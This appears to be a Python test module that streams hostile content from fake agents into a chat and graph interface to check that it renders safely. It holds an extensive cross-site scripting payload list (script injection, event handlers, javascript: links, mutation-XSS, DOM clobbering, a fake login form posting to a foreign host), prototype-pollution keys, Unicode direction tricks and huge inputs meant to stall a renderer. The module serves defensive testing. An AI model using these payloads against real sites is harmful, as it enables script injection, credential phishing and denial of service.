"""What tries to do harm where it is shown, and agents that say it."""

from collections.abc import AsyncIterator

from puntini.agent.contract import Task
from puntini.protocol.events import (
    AssistantResponse,
    AssistantResponseData,
    Debug,
    DebugData,
    Envelope,
    GraphUpdate,
    GraphUpdateData,
    PlanUpdate,
    PlanUpdateData,
    Reasoning,
    ReasoningData,
    StateUpdate,
    StateUpdateData,
    Step,
    StepData,
    ToolCall,
    ToolCallData,
    WorkflowUpdate,
    WorkflowUpdateData,
)
from puntini.protocol.graph import Edge, GraphOp, Node
from tests.live.clients.pages import FOREIGN

RUN = "window.pwned=1"
"""What would show that something ran."""
AWAY = f"http://{FOREIGN}/x"
"""What would show that something was loaded."""
NAME = f"<img src={AWAY} onerror={RUN}><script>{RUN}</script>\"'><svg onload={RUN}>{{{{{RUN}}}}}${{{RUN}}}\u202etxet"
"""Markup for wherever a name, a title or a value is shown; from the end on it would turn round what comes after it."""
CLOBBERING = "main body title location cookie getElementById querySelector addEventListener attributes children nodeName"

MARKUP = "\n\n".join(
    [
        f"<script>{RUN}</script>",
        f"<ScRiPt src={AWAY}.js></sCrIpT>",
        f"<img src=x onerror={RUN}>",
        f'a <img src="{AWAY}.png" srcset="{AWAY}.png 2x"> in a line, and <b onmouseover={RUN}>bold</b>',
        f"![seen]({AWAY}.png) ![data](data:image/svg+xml,%3Csvg%20onload={RUN}%3E)",
        f"[js](javascript:{RUN}) [Js](JaVaScRiPt:{RUN}) [entity](java&#x73;cript:{RUN}) [tab](java\tscript:{RUN})",
        f"[data](data:text/html,%3Cscript%3E{RUN}%3C/script%3E) [vb](vbscript:{RUN}) [file](file:///etc/passwd)",
        f"[blob](blob:null) [relative](/v1/logout) [protocol](//{FOREIGN}/) <javascript:{RUN}>",
        f'[quoted](http://{FOREIGN}/"onmouseover="{RUN}) [titled](http://{FOREIGN}/ "\\"onclick={RUN}")',
        f"[ref]\n\n[ref]: javascript:{RUN}",
        f"<a href='javascript:{RUN}'>link</a> <a href='{AWAY}' target=_top ping={AWAY}>ping</a>",
        f"<svg><script>{RUN}</script><animate onbegin={RUN} attributeName=x dur=1s /></svg>",
        f"<svg><a xlink:href='javascript:{RUN}'><text y=20>svg</text></a></svg><svg><use href='data:,#x'/></svg>",
        f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={RUN}&gt;\">",
        f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
        f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\"></noscript>",
        f"<xmp><p title=\"</xmp><img src=x onerror={RUN}>\"></xmp><template><img src=x onerror={RUN}></template>",
        f"<svg></p><style><a id=\"</style><img src=1 onerror={RUN}>\">",
        f"<iframe src='{AWAY}'></iframe><iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
        f"<object data='{AWAY}'></object><embed src='{AWAY}'><portal src='{AWAY}'>",
        f"<form action='{AWAY}'><input name=password autofocus onfocus={RUN}><button formaction='javascript:{RUN}'>Log in",
        f"<div style='position:fixed;inset:0;background:url({AWAY})'>over all</div><style>*{{display:none}}</style>",
        f"<link rel=stylesheet href='{AWAY}.css'><meta http-equiv=refresh content='0;url={AWAY}'><base href='{AWAY}'>",
        f"<details open ontoggle={RUN}><summary>x</summary></details><video src=x onerror={RUN}><source onerror={RUN}>",
        f"<marquee onstart={RUN}>x</marquee><body onload={RUN}><frameset onpageshow={RUN}><dialog open>x</dialog>",
        *(f"<a id={name} name={name}>{name}</a><form id={name}></form>" for name in CLOBBERING.split()),
        f"<!--[if gte IE 4]><script>{RUN}</script><![endif]--><![CDATA[<img src=x onerror={RUN}>]]>",
        f'```html"><img src=x onerror={RUN}>\n</code></pre><script>{RUN}</script>\n```',
        f"`</code><img src=x onerror={RUN}>` ~~</del><svg onload={RUN}>~~",
        f"| <img src=x onerror={RUN}> | b |\n|---|:-:|\n| <script>{RUN}</script> | [x](javascript:{RUN}) |",
        f"http://{FOREIGN}/<img/src=x/onerror={RUN}> www.{FOREIGN}/\"onclick={RUN} ann@{FOREIGN}",
        "\u202eright to left and never back \u2066isolated \u200f\u200b\ufeff\x00\ud7ff a\u0300\u0301" + "\u0301" * 200,
        f"<plaintext><script>{RUN}</script>",
        f"the end, unclosed\n\n```\n<script>{RUN}</script>",
    ]
)

MANY = 100_000
HEAVY = {
    "quotes": ">" * MANY + " deep",
    "lists": "- " * MANY + "deep",
    "indented": "\n".join("  " * level + "- item" for level in range(600)),
    "brackets": "[" * MANY + "](" * 1000,
    "images": "![" * MANY,
    "stars": "***" * MANY + "a" + "***" * MANY,
    "emphasis": "*a **b _c " * (MANY // 10),
    "backticks": " ".join("`" * (length % 300 + 1) + "a" for length in range(3000)),
    "address": "a" * MANY + "@",
    "word": "W" * MANY,
    "table": "| a | b |\n|---|---|\n" + "| x | y |\n" * 20_000,
    "columns": "|a" * 5_000 + "|\n" + "|-" * 5_000 + "|\n" + "|b" * 5_000 + "|\n",
    "unclosed": "```\n" + "code\n" * (MANY // 5),
    "markup": "<div>" * (MANY // 5) + "</b>" * (MANY // 5),
    "paragraphs": "a\n\n" * 100_000,
    "megabyte": "Some words **bold** and `code`, [a link](https://example.org/).\n\n" * 16_000,
}
"""What takes long to read, or to draw, if one is not careful."""

_PIECES = 40


async def heavy(task: Task) -> AsyncIterator[Envelope]:
    """Says what is heavy by the name that it is asked for, first in some pieces."""
    async for event in _speak(task, HEAVY[task.prompt], pieces=4):
        yield event


async def markup(task: Task) -> AsyncIterator[Envelope]:
    """Says all of the markup, piece by piece, so that each is also seen half."""
    async for event in _speak(task, MARKUP, pieces=_PIECES):
        yield event


async def names(task: Task) -> AsyncIterator[Envelope]:
    """Does what has a name, and names it badly."""
    evil = {"<b>": NAME, "__proto__": {"polluted": NAME}, "constructor": NAME, "key": NAME}
    yield Reasoning(data=ReasoningData(text=MARKUP, phase=NAME, steps=[NAME]))
    yield PlanUpdate(data=PlanUpdateData(current_plan=[NAME, "__proto__"], last_reflection=NAME))
    yield ToolCall(data=ToolCallData(call_id="c1", tool_name=NAME, status="started", parameters=evil))
    yield ToolCall(data=ToolCallData(call_id="c1", tool_name=NAME, status="succeeded", result=evil))
    yield ToolCall(data=ToolCallData(call_id="c2", tool_name="__proto__", status="failed", error=NAME))
    yield Step(data=StepData(step_number=1, name=NAME, success=True, duration_seconds=0.1))
    yield Debug(data=DebugData(message=NAME, level="error", details=evil))
    yield StateUpdate(data=StateUpdateData(version=1, snapshot=evil))
    yield WorkflowUpdate(data=WorkflowUpdateData(to_agent=NAME, reason=NAME, from_agent=NAME, workflow=NAME))
    yield GraphUpdate(data=GraphUpdateData(version=1, delta=_graph()))
    yield AssistantResponse(agent=NAME, data=AssistantResponseData(message_id="main", text="All is named."))
    raise RuntimeError(NAME)


def _graph() -> list[GraphOp]:
    ids = [NAME, "__proto__", "constructor", "main", "graph-inspector", "*", "#x, [id]", "toString"]
    nodes = [
        Node(id=id_, label=NAME if at % 2 else "constructor", key=f"{NAME}{at}", props={"name": NAME, "__proto__": NAME})
        for at, id_ in enumerate(ids)
    ]
    edges = [
        Edge(id=f"{id_}e", label=NAME if at else "__proto__", source=id_, target=ids[0]) for at, id_ in enumerate(ids)
    ]
    return [
        *(GraphOp(action="add_node", node=node) for node in nodes),
        *(GraphOp(action="add_edge", edge=edge) for edge in edges),
    ]


async def _speak(task: Task, text: str, *, pieces: int) -> AsyncIterator[Envelope]:
    message_id, size = f"msg_{task.task_id}", -(-len(text) // pieces)
    for at in range(0, len(text), size):
        data = AssistantResponseData(message_id=message_id, text=text[at : at + size], chunk=True, offset=at)
        yield AssistantResponse(data=data)
    yield AssistantResponse(data=AssistantResponseData(message_id=message_id, text=text))
